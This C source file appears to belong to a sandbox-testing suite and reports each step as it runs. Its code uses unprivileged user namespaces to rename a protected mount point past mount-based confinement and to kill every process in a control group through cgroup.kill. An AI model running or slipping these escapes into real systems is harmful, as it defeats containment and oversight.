// Ways around the mounts by a mount namespace of one's own, which user namespaces give to everybody.
#include "attack.h"

#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static void map(const char *path, unsigned id) {
  char text[32];
  int length = snprintf(text, sizeof text, "%u %u 1", id, id);
  int file = open(path, O_WRONLY);
  if (file < 0 || write(file, text, length) != length) tell(path, -1);
  close(file);
}

// New user and mount namespaces, and what `more` asks for; the ids stay what they are.
static int leave(int more) {
  unsigned uid = getuid(), gid = getgid();
  int result = unshare(CLONE_NEWUSER | CLONE_NEWNS | more);
  tell("unshare", result);
  if (result < 0) return result;
  int deny = open("/proc/self/setgroups", O_WRONLY);
  if (deny < 0 || write(deny, "deny", 4) != 4) tell("setgroups", -1);
  map("/proc/self/uid_map", uid);
  map("/proc/self/gid_map", gid);
  return 0;
}

// away PARENT NAME: moves the mount point NAME away, in a mount namespace that has no mount there.
int away_command(int count, char **arguments) {
  if (count != 2) return 99;
  int parent = open(arguments[0], O_RDONLY | O_DIRECTORY);
  tell("in place", renameat(parent, arguments[1], parent, "away"));
  if (leave(0) < 0) return 0;
  tell("mount", mount("none", "/tmp", "tmpfs", 0, NULL));
  tell("enter", chdir("/tmp"));
  tell("pivot", syscall(SYS_pivot_root, ".", "."));
  tell("let go", umount2(".", MNT_DETACH));
  tell("rename", renameat(parent, arguments[1], parent, "away"));
  tell("another", mkdirat(parent, arguments[1], 0777));
  return 0;
}

// groups NAME: kills all processes of the control group NAME, which is below the one that the caller is in.
int groups_command(int count, char **arguments) {
  if (count != 1) return 99;
  if (leave(CLONE_NEWCGROUP) < 0) return 0;
  tell("mount", mount("none", "/tmp", "cgroup2", 0, NULL));
  char path[256];
  snprintf(path, sizeof path, "/tmp/%s/cgroup.kill", arguments[0]);
  int file = open(path, O_WRONLY);
  tell("kill", file < 0 ? -1 : write(file, "1", 1));
  return 0;
}
